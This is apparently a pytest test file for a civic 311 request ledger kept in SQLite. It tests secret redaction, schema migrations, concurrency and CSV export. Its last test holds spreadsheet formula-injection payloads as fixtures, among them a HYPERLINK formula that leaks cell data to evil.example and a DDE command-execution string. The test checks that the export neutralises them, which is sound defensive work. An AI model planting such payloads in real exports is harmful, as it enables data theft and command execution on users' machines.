"""The ledger: every submission and status change kept, safely, in one SQLite file."""

from __future__ import annotations

import csv
import importlib
import io
import json
import multiprocessing
import sqlite3
import stat
import threading
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from civic311 import InvalidRequestError, NewRequest, Receipt, ServiceRequest, Status
from civic311.ledger import (
    EXPORT_COLUMNS,
    MIGRATIONS,
    SCHEMA_VERSION,
    DuplicateKeyError,
    Ledger,
    LedgerSchemaError,
    Migration,
    content_key,
)
from civic311.outbox import Outbox

SECRET = "sk-ledger-SECRET-77"
ENDPOINT = "https://city.example/open311/v2"
T0 = datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc)


def pothole(n: int = 1, **extra: Any) -> NewRequest:
    return NewRequest(
        service_code="001",
        lat=37.7 + n / 10_000,
        long=-122.4,
        description=f"Pothole #{n}",
        **extra,
    )


def seen(
    rid: str, status: str | None, *, notes: str | None = None, hours: int = 0
) -> ServiceRequest:
    """The city's view of request *rid*, last updated *hours* after T0."""
    return ServiceRequest(
        service_request_id=rid,
        status=None if status is None else Status(status),
        status_notes=notes,
        service_code="001",
        service_name="Pothole",
        updated_datetime=T0 + timedelta(hours=hours),
    )


@pytest.fixture
def ledger(tmp_path: Path) -> Any:
    with Ledger(tmp_path / "ledger.sqlite") as opened:
        yield opened


# --- the file ---------------------------------------------------------------------------------


def test_file_is_private_wal_and_versioned(tmp_path: Path) -> None:
    """A new ledger file is mode 0600, in WAL mode, at the current schema version."""
    path = tmp_path / "new.sqlite"
    with Ledger(path) as ledger:
        ledger.record_submission(key=None, request=pothole(), endpoint=ENDPOINT, sent_at=T0)
        assert ledger.schema_version == SCHEMA_VERSION == MIGRATIONS[-1].version
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    raw = sqlite3.connect(path)
    try:
        assert raw.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        tables = {r[0] for r in raw.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    finally:
        raw.close()
    assert {"ledger_submissions", "ledger_status", "ledger_schema_version"} <= tables
    assert all(t.startswith(("ledger_", "sqlite_")) for t in tables)


def test_repr_shows_the_path_only(tmp_path: Path) -> None:
    """repr(Ledger) is the path and nothing else."""
    with Ledger(tmp_path / "r.sqlite") as ledger:
        assert repr(ledger) == f"Ledger({str(tmp_path / 'r.sqlite')!r})"


def test_close_ends_the_connection(tmp_path: Path) -> None:
    """After the with-block the ledger is closed; using it raises."""
    with Ledger(tmp_path / "c.sqlite") as ledger:
        pass
    with pytest.raises(sqlite3.ProgrammingError):
        ledger.submissions()
    ledger.close()  # closing twice is harmless


def test_the_outbox_is_a_view_of_the_one_journal(tmp_path: Path) -> None:
    """An Outbox entry is a journal row (with its local_id); the Outbox lists only its own
    entries, the Ledger every submission."""
    path = tmp_path / "shared.sqlite"
    with Outbox(path) as outbox:
        local_id = outbox.add(pothole(1), now=T0)
    with Ledger(path) as ledger:
        ledger.record_submission(key="k", request=pothole(2), endpoint=ENDPOINT, sent_at=T0)
    with Outbox(path) as outbox, Ledger(path) as ledger:
        assert [e.local_id for e in outbox.entries()] == [local_id]
        assert [(s.key, s.local_id) for s in ledger.submissions()] == [
            (None, local_id),
            ("k", None),
        ]
        found = ledger.find_by_local_id(local_id)
        assert found is not None
        assert found.request == pothole(1)


# --- submissions ------------------------------------------------------------------------------


def test_submission_round_trips_with_its_receipt(ledger: Ledger) -> None:
    """What was sent, when, where and the receipt come back as a typed Submission."""
    receipt = Receipt(service_request_id="638344", service_notice="Thanks", account_id="42")
    sid = ledger.record_submission(
        key=None, request=pothole(7), endpoint=ENDPOINT, sent_at=T0, receipt=receipt
    )
    sub = ledger.submission(sid)
    assert sub is not None
    assert sub.id == sid
    assert sub.state == "sent"
    assert sub.request == pothole(7)
    assert sub.endpoint == ENDPOINT
    assert sub.sent_at == T0
    assert sub.sent_at.tzinfo is not None
    assert sub.receipt == receipt
    assert sub.service_request_id == "638344"
    assert ledger.by_request_id("638344") == sub
    assert ledger.submission(sid + 100) is None


def test_state_follows_from_what_is_recorded(ledger: Ledger) -> None:
    """A receipt means sent, an error alone failed, neither means pending and in flight;
    state= overrides (queued: it never reached the city)."""
    sent = ledger.record_submission(
        key=None, request=pothole(1), endpoint=ENDPOINT, sent_at=T0, receipt=Receipt(token="t")
    )
    queued = ledger.record_submission(
        key=None,
        request=pothole(2),
        endpoint=ENDPOINT,
        sent_at=T0,
        state="queued",
    )
    failed = ledger.record_submission(
        key=None, request=pothole(3), endpoint=ENDPOINT, sent_at=T0, error="HTTP 400: bad code"
    )
    uncertain = ledger.record_submission(
        key=None,
        request=pothole(4),
        endpoint=ENDPOINT,
        sent_at=T0,
        error="timed out",
        state="uncertain",
    )
    flying = ledger.record_submission(key=None, request=pothole(5), endpoint=ENDPOINT, sent_at=T0)
    states = {s.id: s.state for s in ledger.submissions()}
    assert states == {
        sent: "sent",
        queued: "queued",
        failed: "failed",
        uncertain: "uncertain",
        flying: "pending",
    }
    assert [s.id for s in ledger.in_flight()] == [flying]
    assert [s.id for s in ledger.submissions("failed")] == [failed]
    queued_sub = ledger.submission(queued)
    assert queued_sub is not None
    assert queued_sub.receipt is None


def test_receipt_and_token_resolution_are_recorded(ledger: Ledger) -> None:
    """record_receipt settles a submission; record_token_resolved turns its token into an id."""
    sid = ledger.record_submission(key=None, request=pothole(), endpoint=ENDPOINT, sent_at=T0)
    ledger.record_receipt(sid, Receipt(token="tok-1", service_notice="batch"), T0 + timedelta(1))
    assert ledger.record_token_resolved("tok-1", "9001", T0 + timedelta(days=2)) == 1
    assert ledger.record_token_resolved("unknown-token", "1", T0) == 0
    sub = ledger.by_request_id("9001")
    assert sub is not None
    assert sub.receipt is not None
    assert sub.state == "sent"
    assert (sub.receipt.token, sub.receipt.service_request_id) == ("tok-1", "9001")
    assert sub.receipt_at == T0 + timedelta(days=1)
    assert sub.token_resolved_at == T0 + timedelta(days=2)


def test_api_key_is_never_stored(tmp_path: Path) -> None:
    """Secret-named receipt extras are stripped; api_key values in endpoints and errors are
    redacted; the secret appears nowhere in the files."""
    path = tmp_path / "secret.sqlite"
    with Ledger(path) as ledger:
        sid = ledger.record_submission(
            key=None,
            request=pothole(),
            endpoint=f"{ENDPOINT}?api_key={SECRET}",
            sent_at=T0,
            error=f"POST {ENDPOINT}/requests.json?api_key={SECRET} → timed out",
            state="uncertain",
        )
        receipt = Receipt(
            service_request_id="1",
            extras={"api_key": SECRET, "ApiKey": SECRET, "key": SECRET, "priority": "high"},
        )
        ledger.record_receipt(sid, receipt, T0)
        sub = ledger.submission(sid)
        assert sub is not None
        assert sub.receipt is not None
        assert dict(sub.receipt.extras) == {"priority": "high"}
        assert SECRET not in sub.endpoint
        buffer = io.StringIO()
        ledger.export_jsonl(buffer)
        assert SECRET not in buffer.getvalue()
    for file in tmp_path.iterdir():
        assert SECRET.encode() not in file.read_bytes()


# --- keys and bulk resume ---------------------------------------------------------------------


def test_keys_are_unique_and_findable(ledger: Ledger) -> None:
    """A key is recorded once; a second use raises DuplicateKeyError naming the first row."""
    key = content_key(pothole(1))
    sid = ledger.record_submission(key=key, request=pothole(1), endpoint=ENDPOINT, sent_at=T0)
    found = ledger.find_by_key(key)
    assert found is not None
    assert found.id == sid
    assert ledger.find_by_key("nope") is None
    with pytest.raises(DuplicateKeyError) as caught:
        ledger.record_pending(key=key, request=pothole(1), endpoint=ENDPOINT, at=T0)
    assert caught.value.existing == sid
    assert caught.value.field == "key"
    # Rows without a key never collide.
    ledger.record_submission(key=None, request=pothole(1), endpoint=ENDPOINT, sent_at=T0)
    ledger.record_submission(key=None, request=pothole(1), endpoint=ENDPOINT, sent_at=T0)
    assert len(ledger.submissions()) == 3


def test_content_key_is_stable_and_content_sensitive() -> None:
    """content_key is the same for equal requests and differs when a field differs."""
    assert content_key(pothole(1)) == content_key(pothole(1))
    assert content_key(pothole(1)) != content_key(pothole(2))
    assert content_key(pothole(1)).startswith("sha256:")


def test_bulk_runner_knows_what_was_in_flight_after_a_crash(tmp_path: Path) -> None:
    """Rows recorded before sending say, after a restart, which were never sent, which were
    in flight, and which were settled."""
    path = tmp_path / "bulk.sqlite"
    with Ledger(path) as ledger:
        for n in range(3):
            ledger.record_pending(key=f"row-{n}", request=pothole(n), endpoint=ENDPOINT, at=T0)
        ledger.mark_in_flight("row-0", at=T0 + timedelta(seconds=1))
        ledger.record_outcome(
            "row-0", state="sent", at=T0 + timedelta(seconds=2), receipt=Receipt("500")
        )
        ledger.mark_in_flight("row-1", at=T0 + timedelta(seconds=3))
        # ... the process dies here, before row-1's answer and before row-2 is sent.
    with Ledger(path) as ledger:
        states = {s.key: (s.state, s.sent_at is not None) for s in ledger.submissions()}
        assert states == {
            "row-0": ("sent", True),
            "row-1": ("pending", True),
            "row-2": ("pending", False),
        }
        assert [s.key for s in ledger.in_flight()] == ["row-1"]
        row1 = ledger.find_by_key("row-1")
        assert row1 is not None
        assert row1.in_flight
        ledger.record_outcome(row1.id, state="uncertain", at=T0, error="lost answer")
        ledger.mark_in_flight("row-1", at=T0 + timedelta(hours=2))  # re-sent later: allowed
        with pytest.raises(InvalidRequestError) as settled:
            ledger.mark_in_flight("row-0", at=T0)
        assert settled.value.field == "submission"
        with pytest.raises(KeyError):
            ledger.mark_in_flight("no-such-key", at=T0)


def test_an_empty_error_text_is_no_error(ledger: Ledger) -> None:
    """record_outcome takes str(exc) as it comes: an empty text is stored as None."""
    sid = ledger.record_pending(key="e", request=pothole(), endpoint=ENDPOINT, at=T0)
    ledger.mark_in_flight(sid, at=T0)
    ledger.record_outcome(sid, state="uncertain", at=T0, error="  ")
    sub = ledger.submission(sid)
    assert sub is not None
    assert (sub.state, sub.error) == ("uncertain", None)


# --- statuses ---------------------------------------------------------------------------------


def test_status_is_stored_only_when_it_changes(ledger: Ledger) -> None:
    """Hourly tracking of an unchanged request stores one row; each change adds one."""
    changes = [
        ledger.record_status(seen("1", "open"), observed_at=T0 + timedelta(hours=h))
        for h in range(24)
    ]
    assert changes == [True] + [False] * 23
    assert ledger.record_status(
        seen("1", "open", notes="crew assigned"), observed_at=T0 + timedelta(hours=25)
    )
    assert ledger.record_status(
        seen("1", "open", notes="crew assigned", hours=3), observed_at=T0 + timedelta(hours=26)
    )
    assert ledger.record_status(
        seen("1", "closed", notes="fixed", hours=4), observed_at=T0 + timedelta(hours=27)
    )
    history = ledger.history("1")
    assert [(o.status, o.status_notes) for o in history] == [
        ("open", None),
        ("open", "crew assigned"),
        ("open", "crew assigned"),
        ("closed", "fixed"),
    ]
    assert [o.observed_at for o in history] == sorted(o.observed_at for o in history)
    latest = ledger.latest_status("1")
    assert latest is not None
    assert latest.is_closed
    assert latest.updated_datetime == T0 + timedelta(hours=4)
    assert latest.observed_at.tzinfo is not None
    assert ledger.latest_status("never-seen") is None


def test_status_queries_by_value_and_by_closedness(ledger: Ledger) -> None:
    """by_status matches the latest value ignoring case; latest_statuses(closed=…) uses
    Status.is_closed, so 'Fixed' counts as closed."""
    ledger.record_status(seen("a", "open"), observed_at=T0)
    ledger.record_status(seen("a", "In Progress"), observed_at=T0 + timedelta(hours=1))
    ledger.record_status(seen("b", "Fixed"), observed_at=T0)
    ledger.record_status(seen("c", "closed"), observed_at=T0)
    ledger.record_status(seen("d", "open"), observed_at=T0)
    assert [o.service_request_id for o in ledger.by_status("in_progress")] == ["a"]
    assert [o.service_request_id for o in ledger.by_status("OPEN")] == ["d"]
    assert [o.service_request_id for o in ledger.latest_statuses(closed=True)] == ["b", "c"]
    assert [o.service_request_id for o in ledger.latest_statuses(closed=False)] == ["a", "d"]
    assert len(ledger.latest_statuses()) == 4


def test_changed_since_lists_later_changes_oldest_first(ledger: Ledger) -> None:
    """changed_since returns changes observed strictly after the given moment."""
    for hour, rid in [(1, "x"), (2, "y"), (3, "x")]:
        ledger.record_status(seen(rid, f"s{hour}"), observed_at=T0 + timedelta(hours=hour))
    changes = ledger.changed_since(T0 + timedelta(hours=1))
    assert [(o.service_request_id, o.status) for o in changes] == [("y", "s2"), ("x", "s3")]
    assert ledger.changed_since(T0 + timedelta(hours=3)) == []


def test_tracked_ids_and_open_only(ledger: Ledger) -> None:
    """tracked_ids lists submitted ids then observed-only ids; open_only drops closed ones and
    keeps ids never observed."""
    ledger.record_submission(
        key=None, request=pothole(1), endpoint=ENDPOINT, sent_at=T0, receipt=Receipt("s1")
    )
    ledger.record_submission(
        key=None, request=pothole(2), endpoint=ENDPOINT, sent_at=T0, receipt=Receipt("s2")
    )
    ledger.record_status(seen("s2", "closed"), observed_at=T0)
    ledger.record_status(seen("o1", "open"), observed_at=T0)
    ledger.record_status(seen("s1", "open"), observed_at=T0)
    assert ledger.tracked_ids() == ["s1", "s2", "o1"]
    assert ledger.tracked_ids(open_only=True) == ["s1", "o1"]


def test_token_only_requests_cannot_be_tracked(ledger: Ledger) -> None:
    """A ServiceRequest without an id is refused, naming 'request'."""
    with pytest.raises(InvalidRequestError) as caught:
        ledger.record_status(ServiceRequest(None, token="t"), observed_at=T0)
    assert caught.value.field == "request"


# --- export -----------------------------------------------------------------------------------


def _filled(ledger: Ledger) -> None:
    ledger.record_submission(
        key="k1", request=pothole(1), endpoint=ENDPOINT, sent_at=T0, receipt=Receipt("100")
    )
    ledger.record_submission(
        key=None, request=pothole(2), endpoint=ENDPOINT, sent_at=T0, error="HTTP 400"
    )
    ledger.record_status(seen("100", "open"), observed_at=T0 + timedelta(hours=1))
    ledger.record_status(seen("100", "closed", notes="done"), observed_at=T0 + timedelta(hours=2))


def test_csv_export_has_one_row_per_submission_with_latest_status(tmp_path: Path) -> None:
    """export_csv writes the documented columns, one row per submission, latest status joined,
    ISO 8601 datetimes, to a 0600 file."""
    with Ledger(tmp_path / "e.sqlite") as ledger:
        _filled(ledger)
        out = tmp_path / "export.csv"
        assert ledger.export_csv(out) == 2
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with out.open(newline="", encoding="utf-8") as stream:
        reader = csv.DictReader(stream)
        assert tuple(reader.fieldnames or ()) == EXPORT_COLUMNS
        rows = list(reader)
    assert [r["state"] for r in rows] == ["sent", "failed"]
    first, second = rows
    assert (first["service_request_id"], first["status"], first["status_notes"]) == (
        "100",
        "closed",
        "done",
    )
    assert datetime.fromisoformat(first["status_observed_at"]) == T0 + timedelta(hours=2)
    assert datetime.fromisoformat(first["sent_at"]) == T0
    assert first["reconciled"] == "false"
    assert json.loads(first["request"])["description"] == "Pothole #1"
    assert second["status"] == ""
    assert second["error"] == "HTTP 400"


def test_jsonl_export_to_a_stream(ledger: Ledger) -> None:
    """export_jsonl writes one JSON object per submission, with the request as an object."""
    _filled(ledger)
    buffer = io.StringIO()
    assert ledger.export_jsonl(buffer) == 2
    records = [json.loads(line) for line in buffer.getvalue().splitlines()]
    assert [tuple(r) for r in records] == [EXPORT_COLUMNS, EXPORT_COLUMNS]
    assert records[0]["status"] == "closed"
    assert records[0]["request"]["service_code"] == "001"
    assert records[0]["lat"] == pytest.approx(37.7001)
    assert records[1]["status"] is None
    assert datetime.fromisoformat(records[0]["recorded_at"]).tzinfo is not None


def test_export_refuses_a_non_file(ledger: Ledger) -> None:
    """An export target that is neither a path nor a stream names 'path_or_file'."""
    with pytest.raises(InvalidRequestError) as caught:
        ledger.export_csv(42)  # type: ignore[arg-type]
    assert caught.value.field == "path_or_file"


# --- schema versions --------------------------------------------------------------------------

# The first released schema, written by hand (not imported), as an old file would hold it.
V1_SCHEMA = """
CREATE TABLE ledger_schema_version (
    version INTEGER PRIMARY KEY, description TEXT NOT NULL, applied_at TEXT NOT NULL);
INSERT INTO ledger_schema_version VALUES (1, 'submissions and status observations',
    '2024-01-01T00:00:00.000000+00:00');
CREATE TABLE ledger_submissions (
    id INTEGER PRIMARY KEY AUTOINCREMENT, endpoint TEXT NOT NULL, service_code TEXT NOT NULL,
    request TEXT NOT NULL, sent_at TEXT NOT NULL, service_request_id TEXT, token TEXT,
    service_notice TEXT, account_id TEXT, reconciled INTEGER NOT NULL DEFAULT 0,
    receipt_at TEXT, token_resolved_at TEXT, error TEXT);
CREATE INDEX ledger_submissions_request_id ON ledger_submissions (service_request_id);
CREATE INDEX ledger_submissions_token ON ledger_submissions (token);
CREATE TABLE ledger_status (
    id INTEGER PRIMARY KEY AUTOINCREMENT, service_request_id TEXT NOT NULL, status TEXT,
    status_notes TEXT, updated_datetime TEXT, observed_at TEXT NOT NULL, service_code TEXT,
    service_name TEXT);
CREATE INDEX ledger_status_by_id ON ledger_status (service_request_id, observed_at);
"""


def make_v1(path: Path) -> None:
    request = json.dumps({"service_code": "001", "address_string": "1 Main St"})
    when = "2024-01-02T03:04:05.000000+00:00"
    db = sqlite3.connect(path)
    try:
        db.executescript(V1_SCHEMA)
        db.execute(
            "INSERT INTO ledger_submissions (endpoint, service_code, request, sent_at, "
            "service_request_id, service_notice, receipt_at) VALUES (?, '001', ?, ?, '77', "
            "'thanks', ?)",
            (ENDPOINT, request, when, when),
        )
        db.execute(
            "INSERT INTO ledger_submissions (endpoint, service_code, request, sent_at, error) "
            "VALUES (?, '001', ?, ?, 'HTTP 400')",
            (ENDPOINT, request, when),
        )
        db.execute(
            "INSERT INTO ledger_status (service_request_id, status, observed_at) "
            "VALUES ('77', 'open', ?)",
            (when,),
        )
        db.commit()
    finally:
        db.close()


def test_a_v1_file_is_migrated_forward_keeping_its_data(tmp_path: Path) -> None:
    """Opening a hand-made v1 file upgrades it to the current schema; old rows survive with
    derived states, and the new features (keys, pending rows) work on it."""
    path = tmp_path / "v1.sqlite"
    make_v1(path)
    with Ledger(path) as ledger:
        assert ledger.schema_version == SCHEMA_VERSION
        old = ledger.submissions()
        assert [(s.state, s.service_request_id, s.error) for s in old] == [
            ("sent", "77", None),
            ("failed", None, "HTTP 400"),
        ]
        assert old[0].recorded_at == datetime(2024, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
        assert old[0].request.address_string == "1 Main St"
        assert old[0].receipt is not None
        assert old[0].receipt.service_notice == "thanks"
        assert [o.status for o in ledger.history("77")] == ["open"]
        ledger.record_pending(key="new", request=pothole(), endpoint=ENDPOINT, at=T0)
        assert [s.id for s in ledger.submissions("pending")] == [3]
    raw = sqlite3.connect(path)
    try:
        versions = [r[0] for r in raw.execute("SELECT version FROM ledger_schema_version")]
        assert raw.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        raw.close()
    assert versions == [1, 2, 3]


def test_a_newer_file_is_refused_untouched(tmp_path: Path) -> None:
    """A file whose schema is ahead of the code raises LedgerSchemaError and is not changed."""
    path = tmp_path / "future.sqlite"
    with Ledger(path):
        pass
    raw = sqlite3.connect(path)
    raw.execute("INSERT INTO ledger_schema_version VALUES (99, 'from the future', 'x')")
    raw.commit()
    raw.close()
    before = path.read_bytes()
    with pytest.raises(LedgerSchemaError) as caught:
        Ledger(path)
    assert (caught.value.found, caught.value.supported) == (99, SCHEMA_VERSION)
    assert "99" in str(caught.value)
    assert "upgrade civic311" in str(caught.value)
    assert path.read_bytes() == before


def test_a_failing_migration_rolls_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A migration step that fails leaves the file at its old version, with no half-made
    tables."""
    path = tmp_path / "v1.sqlite"
    make_v1(path)

    def broken(db: sqlite3.Connection) -> None:
        db.execute("CREATE TABLE ledger_half_made (x)")
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(
        "civic311.ledger.MIGRATIONS", (*MIGRATIONS, Migration(99, "broken step", broken))
    )
    with pytest.raises(RuntimeError, match="disk on fire"):
        Ledger(path)
    raw = sqlite3.connect(path)
    try:
        versions = [r[0] for r in raw.execute("SELECT version FROM ledger_schema_version")]
        tables = {r[0] for r in raw.execute("SELECT name FROM sqlite_master WHERE type='table'")}
        columns = {r[1] for r in raw.execute("PRAGMA table_info(ledger_submissions)")}
    finally:
        raw.close()
    assert versions == [1]
    assert "ledger_half_made" not in tables
    assert "key" not in columns  # v2 ran in the same transaction, so it was undone too


# --- bad input --------------------------------------------------------------------------------

NAIVE = datetime(2024, 5, 1, 12, 0)  # noqa: DTZ001 - the point: a naive datetime


@pytest.mark.parametrize(
    ("call", "field"),
    [
        (
            lambda lg: lg.record_submission(key=None, request={}, endpoint=ENDPOINT, sent_at=T0),
            "request",
        ),
        (
            lambda lg: lg.record_submission(
                key=5, request=pothole(), endpoint=ENDPOINT, sent_at=T0
            ),
            "key",
        ),
        (
            lambda lg: lg.record_submission(key=None, request=pothole(), endpoint=None, sent_at=T0),
            "endpoint",
        ),
        (
            lambda lg: lg.record_submission(
                key=None, request=pothole(), endpoint=ENDPOINT, sent_at="2024-05-01"
            ),
            "sent_at",
        ),
        (
            lambda lg: lg.record_submission(
                key=None, request=pothole(), endpoint=ENDPOINT, sent_at=NAIVE
            ),
            "sent_at",
        ),
        (
            lambda lg: lg.record_submission(
                key=None, request=pothole(), endpoint=ENDPOINT, sent_at=T0, receipt={}
            ),
            "receipt",
        ),
        (
            lambda lg: lg.record_submission(
                key=None, request=pothole(), endpoint=ENDPOINT, sent_at=T0, state="lost"
            ),
            "state",
        ),
        (
            lambda lg: lg.record_pending(key=None, request=pothole(), endpoint=ENDPOINT, at=NAIVE),
            "at",
        ),
        (
            lambda lg: lg.record_submission(
                key=None, request=pothole(), endpoint=ENDPOINT, sent_at=T0, error=5
            ),
            "error",
        ),
        (lambda lg: lg.record_receipt("1", Receipt("1"), T0), "submission_id"),
        (lambda lg: lg.record_receipt(True, Receipt("1"), T0), "submission_id"),
        (lambda lg: lg.record_token_resolved("t", 5, T0), "service_request_id"),
        (lambda lg: lg.record_outcome(1, state="pending", at=T0), "state"),
        (lambda lg: lg.record_status({"service_request_id": "1"}, observed_at=T0), "request"),
        (lambda lg: lg.record_status(seen("1", "open"), observed_at=NAIVE), "observed_at"),
        (lambda lg: lg.changed_since(NAIVE), "when"),
        (lambda lg: lg.history(7), "service_request_id"),
        (lambda lg: lg.by_status(""), "status"),
        (lambda lg: lg.submissions("lost"), "state"),
        (lambda lg: lg.tracked_ids(open_only="yes"), "open_only"),
    ],
)
def test_bad_arguments_are_refused_naming_them(ledger: Ledger, call: Any, field: str) -> None:
    """Wrong types, naive datetimes and unknown states raise InvalidRequestError naming the
    argument, and write nothing."""
    with pytest.raises(InvalidRequestError) as caught:
        call(ledger)
    assert caught.value.field == field
    assert ledger.submissions() == []


def test_path_must_be_a_path() -> None:
    """Ledger(path) refuses a non-path, naming 'path'."""
    with pytest.raises(InvalidRequestError) as caught:
        Ledger(3)  # type: ignore[arg-type]
    assert caught.value.field == "path"


# --- concurrency ------------------------------------------------------------------------------

WORKERS = 4
WRITES = 50


def write_rows(path: str, worker: int, barrier: Any) -> None:
    """A child process: open the ledger and write WRITES submissions and status changes."""
    barrier.wait(timeout=60)  # start together, so the writes really contend
    with Ledger(path) as ledger:
        for n in range(WRITES):
            rid = f"{worker}-{n}"
            ledger.record_submission(
                key=f"w{worker}-{n}",
                request=pothole(n),
                endpoint=ENDPOINT,
                sent_at=T0 + timedelta(seconds=n),
                receipt=Receipt(service_request_id=rid),
            )
            ledger.record_status(seen(rid, "open"), observed_at=T0 + timedelta(seconds=n))


@pytest.mark.slow
def test_several_processes_write_one_file_safely(tmp_path: Path) -> None:
    """4 processes x 50 submissions (and 50 status changes) into one file: every row is there
    exactly once and the file passes integrity_check."""
    path = tmp_path / "shared.sqlite"
    with Ledger(path):
        pass  # created and migrated once; the children also race to open it
    # "spawn" children import the target by module name; pytest's importlib mode names this
    # module after its path, so take the target from the plain module (tests/ is on sys.path).
    target = importlib.import_module("test_ledger").write_rows
    context = multiprocessing.get_context("spawn")
    barrier = context.Barrier(WORKERS)
    processes = [
        context.Process(target=target, args=(str(path), w, barrier)) for w in range(WORKERS)
    ]
    for process in processes:
        process.start()
    try:
        for process in processes:
            process.join(timeout=180)
    finally:
        for process in processes:
            if process.is_alive():
                process.terminate()
                process.join(timeout=10)
    assert [p.exitcode for p in processes] == [0] * WORKERS
    expected = {f"w{w}-{n}" for w in range(WORKERS) for n in range(WRITES)}
    with Ledger(path) as ledger:
        keys = [s.key for s in ledger.submissions()]
        assert len(keys) == len(expected) == WORKERS * WRITES
        assert set(keys) == expected
        assert len(ledger.tracked_ids()) == WORKERS * WRITES
        assert len(ledger.changed_since(T0 - timedelta(seconds=1))) == WORKERS * WRITES
    raw = sqlite3.connect(path)
    try:
        assert raw.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        raw.close()


def test_threads_can_share_one_ledger(ledger: Ledger) -> None:
    """One Ledger used from 4 threads keeps every write (its transactions do not interleave)."""

    def work(worker: int) -> None:
        for n in range(25):
            ledger.record_status(seen(f"{worker}-{n}", "open"), observed_at=T0)

    threads = [threading.Thread(target=work, args=(w,)) for w in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert not any(t.is_alive() for t in threads)
    assert len(ledger.tracked_ids()) == 100


# --- formula injection (issue 12.7) ----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturn",
]


def test_csv_export_neutralises_formulas_from_input_and_from_the_city(ledger: Ledger) -> None:
    """Every exported cell starting with =, +, -, @, tab or CR gets a leading ' (OWASP), from
    the report's own fields and from the city's; numbers and JSON Lines stay as they are."""
    for n, formula in enumerate(FORMULAS):
        rid = f"f{n}"
        ledger.record_submission(
            key=None,
            request=NewRequest(
                service_code="001",
                lat=37.7,
                long=-122.4,
                address_string=formula,
                description=formula,
            ),
            endpoint=ENDPOINT,
            sent_at=T0,
            receipt=Receipt(service_request_id=rid, service_notice=formula),
        )
        ledger.record_status(seen(rid, formula, notes=formula), observed_at=T0)
    buffer = io.StringIO()
    assert ledger.export_csv(buffer) == len(FORMULAS)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in ("service_notice", "status", "status_notes"):  # the city's words
            assert row[column] == "'" + formula, column
        for column, cell in row.items():
            if column not in ("lat", "long"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["long"] == "-122.4"  # a negative number is data, not a formula
    assert rows[0]["description"] == "'" + FORMULAS[0]  # the report's own fields too
    jsonl = io.StringIO()
    ledger.export_jsonl(jsonl)
    first = json.loads(jsonl.getvalue().splitlines()[0])
    assert first["description"] == FORMULAS[0]  # JSON is not a spreadsheet: kept verbatim
